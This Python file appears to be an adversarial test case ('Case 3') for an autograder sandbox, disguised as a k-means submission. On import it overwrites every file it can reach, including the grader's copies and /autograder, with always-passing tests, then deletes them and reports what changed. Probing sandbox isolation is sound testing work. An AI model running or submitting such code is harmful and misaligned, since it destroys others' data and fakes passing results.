# base: stub
"""Case 3: rewrites (as always-passing tests) and then deletes every file it can reach from
its working directory: its own folder, the grader's copies beside it, and Gradescope's
/autograder when it exists. Reports, through kmeans_loss, what it managed to change."""
import json
from pathlib import Path

PASSING = "def test_everything():\n    pass\n"


def _in_sandbox() -> bool:
    return Path.cwd().name in ("scratch", "scratch-2") and Path.cwd().parent.name.startswith("course-worker-")


def _vandalise() -> list[str]:
    here = Path.cwd()
    changed = []
    for root in (here, here.parent, Path("/autograder")):
        for path in sorted(root.rglob("*")) if root.is_dir() else []:
            try:
                if path.is_file():
                    path.write_text(PASSING)
                    changed.append(str(path))
                    path.unlink()
            except OSError:
                pass
    return [p for p in changed if not p.startswith(str(here))]


CHANGED = _vandalise() if _in_sandbox() else []


def kmeans_loss(data, centroids):
    raise RuntimeError("REPORT " + json.dumps({"changed_outside_cwd": CHANGED}))
